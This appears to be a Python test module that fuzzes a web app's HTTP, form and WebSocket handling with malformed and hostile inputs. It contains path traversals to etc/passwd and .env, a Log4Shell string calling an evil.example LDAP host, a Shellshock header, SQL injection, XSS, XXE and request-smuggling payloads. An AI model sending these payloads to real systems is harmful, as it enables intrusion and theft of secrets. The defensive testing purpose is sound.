"""What scanners and worse send: requests byte for byte, and sockets that break their own protocol.

Knows attacks. Must not know what the site answers, but that it is never a fault of its own.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from urllib.parse import quote

from tests.journeys.raw import request

EVIL = "evil.example"
SOME_ID = "00000000-0000-4000-8000-000000000000"

TRAVERSALS = tuple(
    f"{start}{dots}{target}"
    for start in ("/", "/static/", "/static/js/", "/artifacts/", "/c/", "/admin/")
    for dots in (
        "../../../",
        "..%2f..%2f..%2f",
        "%2e%2e/%2e%2e/",
        "..%252f..%252f",
        "..\\..\\",
        "%c0%ae%c0%ae/",
        "....//",
    )
    for target in ("etc/passwd", ".env", "agentsite/settings.py", "var/secret_key", "var/db.sqlite3")
)
ODD_PATHS = (
    *(
        "/%00",
        "/c/%00/",
        "/%ff%fe",
        "/c/\xff\xfe/",
        "/%",
        "/%zz",
        "/?%",
        "/?=&=&",
        "/#x",
        "/;x=1",
        "//",
        "///",
        "/./.",
        "/\\",
    ),
    *(
        f"//{EVIL}/",
        f"/\\{EVIL}/",
        f"/%5c{EVIL}",
        f"/%2f%2f{EVIL}",
        f"http://{EVIL}/",
        f"http://{EVIL}/accounts/login/",
    ),
    *(
        "/accounts/login",
        "/admin",
        f"/accounts/login/?next=//{EVIL}",
        f"/admin/login/?next=https://{EVIL}/",
        "/c",
        "/ws/",
    ),
    *("/.git/config", "/.env", "/wp-login.php", "/server-status", "/actuator/env", "/phpmyadmin/", "/cgi-bin/test.cgi"),
    *("/%0d%0aSet-Cookie:x=1", "/accounts/login/?next=/%0d%0aSet-Cookie:x=1", "/${jndi:ldap://evil.example/x}"),
    *(
        "/" + "a" * 1_000,
        "/" + "a" * 8_000,
        "/" + "a" * 60_000,
        "/?" + "a" * 60_000,
        "/" + "a/" * 4_000,
        "/" + "%41" * 2_000,
    ),
)
IDS = (
    *(
        "1",
        "-1",
        "0",
        "1'",
        "1' OR '1'='1",
        "1;DROP TABLE chat_event",
        SOME_ID,
        SOME_ID.upper(),
        f"{SOME_ID}'--",
        "null",
    ),
    *("{{7*7}}", "<script>alert(1)</script>", "\0", "٣", "../x", "1e99", "9" * 400, "%s%n", "' UNION SELECT 1--"),
)
PLACES = (
    "/c/{}/",
    "/c/{}/export.json",
    "/c/{}/older/?before=1",
    "/artifacts/{}/",
    "/admin/chat/conversation/{}/change/",
)
# The admin's, for a member of staff: {} is a conversation.
MOMENTS = (
    "0",
    "-1",
    "1",
    "2",
    "3",
    "1.5",
    "1e9",
    "x",
    "",
    "'",
    "\0",
    "٣",
    "9" * 30,
    "9" * 4_400,
    "1;2",
    "NaN",
    "+1",
    " 1 ",
    "0x1",
)
ADMIN = (
    *(f"/admin/chat/conversation/{{}}/at/?at={quote(moment)}" for moment in MOMENTS),
    "/admin/chat/conversation/{}/at/?at=1&at=2&seq=3",
    *(
        f"/admin/chat/{table}/?{query}"
        for table in ("conversation", "toolcall", "event", "review", "accesstrace")
        for query in (
            *("p=0", "p=-1", "p=x", "p=99999999999999999999", "o=1.2.-3.99", "o=x", "q=%00", "q=%ff", "all=", "e=1"),
            *(
                "phase=%00",
                "phase=nowhere",
                "review=x",
                "failed=maybe",
                "owner='",
                "state=%ff",
                "pending=x",
                "in=x&q=x",
            ),
            *("active_at__year=x", "active_at__year=99999999999", "active_at__year=0", "active_at__month=13"),
            *("user__password__startswith=p", "id__regex=(a%2B)%2B$", "pk__in=1,2,x", "_popup=1", "_to_field=password"),
            "q=" + "a" * 5_000,
        )
    ),
    *(
        "/admin/jsi18n/",
        "/admin/r/1/x/",
        "/admin/r/999999/1/",
        "/admin/autocomplete/",
        "/admin/chat/event/add/",
        "/admin/x/",
    ),
    *(f"/search/?q={quote(text)}" for text in ("%", "_", "\\", "'", "\0", "a" * 5_000, "٣", "<script>", '"OR"', "(")),
)
METHODS = (
    "TRACE",
    "TRACK",
    "PROPFIND",
    "DEBUG",
    "CONNECT",
    "OPTIONS",
    "PUT",
    "PATCH",
    "DELETE",
    "get",
    "G" * 2_000,
    "G\x00T",
)
HOSTS = (
    EVIL,
    "",
    "a b",
    "[::1",
    "127.0.0.1:99999999",
    "127.0.0.1:x",
    f"127.0.0.1@{EVIL}",
    "\xff",
    "127.0.0.1,evil.example",
    "a" * 5_000,
)
HEADERS = (
    *(
        "X-Long: " + "a" * 8_000,
        "X-Long: " + "a" * 60_000,
        "Cookie: sessionid=" + "a" * 30_000,
        "Cookie: ;;;=;sessionid",
    ),
    *(
        "Cookie: sessionid=' OR 1=1--",
        "Cookie: sessionid=\xff\xfe",
        "Cookie: sessionid=../../x",
        "Cookie: csrftoken=\x01",
    ),
    *(
        "Accept-Language: " + "x," * 2_000,
        "Accept-Language: ../../etc",
        "Accept-Encoding: \xff",
        "Accept: " + "*/*," * 2_000,
    ),
    *(
        "X-Forwarded-For: '",
        "X-Forwarded-For: " + "1.2.3.4," * 1_000,
        "X-Forwarded-Proto: \xff",
        "X-Forwarded-Host: " + EVIL,
    ),
    *(
        "Range: bytes=9-1",
        "Range: bytes=-1",
        "Range: x",
        "Range: bytes=" + "0-0," * 1_000,
        "If-Modified-Since: x",
        "If-None-Match: *",
    ),
    *(
        "Authorization: Basic \xff",
        "Referer: \xff",
        "User-Agent: () { :;}; /bin/id",
        "HX-Request: x",
        "X-CSRFToken: " + "x" * 5_000,
    ),
    *(
        "X-Original-URL: /admin/",
        "X-Rewrite-URL: /admin/",
        "X-HTTP-Method-Override: DELETE",
        "Upgrade: h2c",
        "Expect: x",
    ),
)


def broken() -> Iterator[bytes]:
    """Bytes that are no request, and requests that mean two things."""
    yield from (
        b"",
        b"\r\n\r\n",
        b"\0" * 100,
        b"\xff" * 1_000,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 200,
    )
    yield from (
        b"GET",
        b"GET /",
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET  /  HTTP/1.1\r\nHost: x\r\n\r\n",
    )
    yield from (
        b"GET / HTTP/1.1\r\nno colon\r\n\r\n",
        b"GET / HTTP/1.1\r\n: empty\r\n\r\n",
        b"GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n",
    )
    yield from (
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"SSH-2.0-x\r\n",
        b"*1\r\n$4\r\nINFO\r\n",
        b"GET / HTTP/1.1\nHost: 127.0.0.1\n\n",
    )
    yield b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"A: b\r\n" * 5_000 + b"\r\n"
    yield b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * 300_000 + b"\r\n\r\n"
    yield request("/healthz", "X: a\r\n folded", "Host: evil.example")
    smuggled = b"GET /admin/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    login = "/accounts/login/"
    for headers in (
        ("Content-Length: 5", "Transfer-Encoding: chunked"),
        ("Content-Length: 5", "Content-Length: 6"),
        ("Content-Length: 5, 6",),
        ("Content-Length: +5",),
        ("Content-Length: -1",),
        ("Content-Length: 0x5",),
        ("Content-Length: 9" + "9" * 30,),
        ("Transfer-Encoding: xchunked",),
        ("Transfer-Encoding: chunked, identity",),
        ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked"),
        ("Transfer-Encoding : chunked",),
        ("Transfer-Encoding:\x0bchunked",),
    ):
        yield request(login, *headers, method="POST", closes=False) + b"0\r\n\r\n" + smuggled
    for chunks in (
        b"zz\r\n",
        b"-1\r\nx\r\n",
        b"5\r\nabc",
        b"ffffffffffffffffff\r\nx",
        b"5;" + b"x" * 70_000,
        b"1\r\nab\r\n0\r\n\r\n",
    ):
        yield request(login, "Transfer-Encoding: chunked", method="POST", closes=False) + chunks


def forms(token: str) -> Iterator[tuple[str, bytes]]:
    """Bodies with the word of what they are. token: against forgery, so that they are looked into."""
    plain, parts = "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"
    own = f"csrfmiddlewaretoken={token}&"
    for body in (
        "",
        "&&&===",
        "username=%00&password=%00",
        "username=%ff&password=%fe",
        "username=" + "a" * 100_000,
        "a&" * 5_000,
    ):
        yield plain, (own + body).encode()
    part = f'--x\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n{token}\r\n'.encode()
    for content in (
        *(b"", b"--x", b"--x\r\n", b"--x--", b"--x\r\n\r\n\r\n--x--", b"\0" * 1_000, b"--y\r\n\r\n--y--"),
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../\0x"\r\n\r\nx\r\n--x--',
        b"--x\r\nContent-Disposition: form-data; name=\"file\"; filename*=UTF-8''%ff%fe\r\n\r\nx\r\n--x--",
        b'--x\r\nContent-Disposition: form-data; name="\xff"; filename="\xff"\r\nContent-Type: \xff\r\n\r\nx\r\n--x--',
        b"--x\r\nContent-Disposition: " + b"a" * 20_000 + b"\r\n\r\nx\r\n--x--",
        b"--x\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: form-data; name=a\r\n\r\n!!\r\n--x--",
        b"".join(b'--x\r\nContent-Disposition: form-data; name="a%d"\r\n\r\nx\r\n' % n for n in range(1_200))
        + b"--x--",
        b"".join(
            b'--x\r\nContent-Disposition: form-data; name="f%d"; filename="x"\r\n\r\nx\r\n' % n for n in range(150)
        )
        + b"--x--",
    ):
        yield parts, part + content
    for kind in (
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=\xff",
        "application/json",
        "x",
        "",
    ):
        yield kind, f'{own}{{"username": ["a"]}}'.encode()
    yield "text/xml", b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
    yield f"{plain}; charset=utf-7", own.encode()
    yield f"{plain}; charset=nonsense", own.encode()


def requests(*, conversation: str, session: str, token: str) -> list[bytes]:
    """All of them, from a stranger and from somebody who is logged in."""
    stranger = f"Cookie: csrftoken={token}"
    known = f"{stranger}; sessionid={session}"
    found = list(broken())
    paths = (*TRAVERSALS, *ODD_PATHS, *(place.format(quote(wrong)) for place in PLACES for wrong in IDS))
    found += [request(path, who) for path in paths for who in (stranger, known)]
    found += [request(path.format(conversation), known) for path in ADMIN]
    pages = ("/", "/accounts/login/", f"/c/{conversation}/", "/healthz", "/static/js/main.js", "/admin/")
    found += [request(path, known, method=method) for path in pages for method in METHODS]
    found += [request(path, known, host=host) for path in pages for host in HOSTS]
    found += [
        request(path, *([header] if "Cookie" in header else [known, header])) for path in pages for header in HEADERS
    ]
    actions = (
        "accounts/login",
        "accounts/signup",
        "accounts/password",
        "admin/login",
        f"c/{conversation}/rename",
        f"c/{conversation}/files",
    )
    for action in actions:
        for kind, body in forms(token):
            found.append(
                request(
                    f"/{action}/", known, f"Content-Type: {kind}", f"X-CSRFToken: {token}", method="POST", body=body
                )
            )
    return found


# What a client of the WebSocket protocol must not send: after a good handshake, byte for byte.
BROKEN_FRAMES = (
    b"\x81\x02{}",  # not masked
    b"\x83\x80\0\0\0\0",  # an opcode that there is not
    b"\xf1\x80\0\0\0\0",  # bits that nobody agreed on
    b"\x81\xff\x7f\xff\xff\xff\xff\xff\xff\xff\0\0\0\0",  # longer than anything
    b"\x81\x84\0\0\0\0\xff\xfe\xff\xfe",  # no UTF-8
    b"\x89\xfe\x00\x80\0\0\0\0" + b"x" * 128,  # a ping that is too long
    b"\x09\x80\0\0\0\0",  # a ping in pieces
    b"\x80\x80\0\0\0\0",  # the rest of nothing
    b"\x88\x82\0\0\0\0\x00\x01",  # a code that there is not
    b"\x88\x81\0\0\0\0\x01",  # half a code
    b"GET / HTTP/1.1\r\n\r\n",
    b"\0" * 1_000,
)
HANDSHAKES = (
    (),
    ("Sec-WebSocket-Version: 13",),
    ("Sec-WebSocket-Version: 99", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
    ("Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: x"),
    ("Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + "a" * 10_000),
    ("Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Extensions: \xff"),
    (
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Protocol: " + "a," * 2_000,
    ),
)

_VALID = (
    {"type": "user_message", "content": "x", "id": SOME_ID, "delivery": "queue"},
    {"type": "approve", "call_id": SOME_ID, "digest": "0" * 64, "arguments": {"code": "x"}, "scope": "once"},
    {"type": "queue_move", "id": SOME_ID, "position": 1},
    {"type": "resolve_unknown", "call_id": SOME_ID, "choice": "run_again"},
)
_NONSENSE: tuple[object, ...] = (
    None,
    True,
    -1,
    1e308,
    2**63,
    [],
    {},
    "",
    "\0",
    "x" * 40_000,
    [[[[]]]],
    {"$ne": 1},
    "' OR 1=1",
    "${7*7}",
    "\ud7ff\u202e",
)
MARKS = '{}[],:"0'


def frames(count: int) -> Iterator[str]:
    """So many frames that begin as good ones and are spoilt, the same each time."""
    chance = random.Random(20)
    for _ in range(count):
        frame: dict[str, object] = dict(chance.choice(_VALID))
        name = chance.choice([*frame, "more", "__proto__", "role"])
        frame[name] = chance.choice(_NONSENSE)
        text = json.dumps(frame)
        match chance.randrange(3):
            case 0:
                text = text[: chance.randrange(len(text))]
            case 1:
                at = chance.randrange(len(text))
                text = text[:at] + chance.choice(MARKS) + text[at:]
            case _:
                frame[chance.choice([*frame])] = chance.choice(_NONSENSE)
                text = json.dumps(frame)
        yield text
